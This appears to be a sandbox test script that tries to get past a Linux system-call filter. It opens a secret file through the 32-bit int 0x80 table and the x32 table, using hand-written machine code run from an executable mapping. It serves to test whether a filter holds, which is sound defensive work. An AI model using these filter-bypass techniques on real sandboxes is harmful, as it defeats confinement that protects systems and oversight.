# The 32-bit system call table from a 64-bit process (`int $0x80`: a different table
# with different numbers, which a filter that checks only numbers would misread) and
# the x32 table (bit 30 of the number). Each tries to open the secret. The int 0x80
# stub is machine code in an executable mapping, called through ctypes.
from _lib import *
import ctypes, mmap, signal, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
MAP_32BIT = 0x40
page = libc.mmap(None, 4096, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC,
                 mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT, -1, 0)
control("an executable mapping below 4 GiB", lambda: page if page not in (None, 2**64 - 1) else (_ for _ in ()).throw(OSError("mmap")))
path = page + 2048  # the 32-bit ABI takes 32-bit pointers

def stub(nr):
    # push rbx; mov eax, nr; mov ebx, path; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
    code = (b"\x53" + b"\xb8" + struct.pack("<I", nr) + b"\xbb" + struct.pack("<I", path)
            + b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3")
    ctypes.memmove(page, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(page)

def via_int80(p, nr):
    ctypes.memmove(path, p.encode() + b"\0", len(p) + 1)
    pid = os.fork()
    if pid == 0:
        fd = stub(nr)()
        if fd < 0:
            os._exit(3)
        os.write(1, b"int 0x80 opened: " + os.read(fd, 64) + b"\n")
        os._exit(0)
    _, st = os.waitpid(pid, 0)
    if os.WIFSIGNALED(st):
        raise OSError(1, f"killed by {signal.Signals(os.WTERMSIG(st)).name}")
    if os.WEXITSTATUS(st) == 3:
        raise OSError(13, "refused")
    return "opened through int 0x80"

attack("open the secret through int 0x80", lambda: via_int80(f"{WORK}/secret/key", 5))
attack("open an allowed file through int 0x80 (even that is refused)",
       lambda: via_int80(f"{WORK}/ok", 5))

def x32():
    r = libc.syscall(0x40000000 | 2, f"{WORK}/secret/key".encode(), 0)  # x32 open
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return os.read(r, 64)
attack("open the secret through the x32 table", x32)
